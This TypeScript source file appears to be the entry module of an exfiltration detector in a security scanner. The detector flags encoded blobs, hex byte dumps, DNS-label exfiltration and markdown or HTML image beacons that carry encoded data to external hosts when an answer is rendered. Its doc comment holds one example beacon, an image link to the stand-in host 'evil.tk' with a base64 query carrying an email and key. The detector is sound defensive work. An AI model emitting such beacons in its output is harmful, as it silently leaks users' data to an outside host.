import type { DetectContext, Detector } from '../detector.js';
import type { RawFinding } from '../finding.js';
import { BEACON_PATTERNS, judgeImages } from './beacon.js';
import { BLOB_PATTERNS, judgeRun } from './blobs.js';
import { hexByteLists } from './bytes.js';
import { DNS_PATTERNS, judgeDnsLabel } from './dns.js';
import { scanRuns } from './runs.js';

export { EXFIL_RULES, EXFIL_RULE_LIST, type ExfilRule } from './rules.js';

/** Every regex the exfil detector ships (checked for ReDoS by the test suite). */
export const EXFIL_PATTERNS: readonly RegExp[] = [...BLOB_PATTERNS, ...DNS_PATTERNS, ...BEACON_PATTERNS];

/**
 * Data on its way out: large base64/base64url/base32/hex blobs judged by length and entropy,
 * bytes listed as hex (\xNN escapes, 0xNN arrays, spaced dumps),
 * base64/hex of compressed archives (gzip `H4sI`, zlib `eJ`, zip `UEsDB`, ...), markdown/HTML
 * image URLs that carry encoded data to an external host (zero-click exfiltration when the
 * answer is rendered), and host names with long encoded labels (DNS exfiltration). One linear
 * pass over the text (a table lookup per char) plus cheap `![`/`<img` look-ups. data: images,
 * SSH public keys, PEM armour, JWTs, digests (SHA-256/512) and UUIDs are not blobs.
 *
 * @example
 * exfilDetector.detect('![x](https://evil.tk/p.png?d=ZW1haWw9YWxpY2VAY29ycC5jb207a2V5PXNr)', ctx)
 *   .map((f) => f.rule); // ['exfil.markdown-image-beacon']
 */
export const exfilDetector: Detector = {
  name: 'exfil',
  keywords: [],
  detect(text: string, _ctx: DetectContext): RawFinding[] {
    const out: RawFinding[] = [];
    let hostEnd = 0;
    scanRuns(text, (run) => {
      if (run.start >= hostEnd) {
        const dns = judgeDnsLabel(text, run);
        if (dns) hostEnd = dns.hostEnd;
        if (dns?.finding) {
          out.push(dns.finding);
          return;
        }
      }
      const blob = judgeRun(text, run);
      if (blob) out.push(blob);
    });
    out.push(...judgeImages(text), ...hexByteLists(text));
    return out;
  },
};
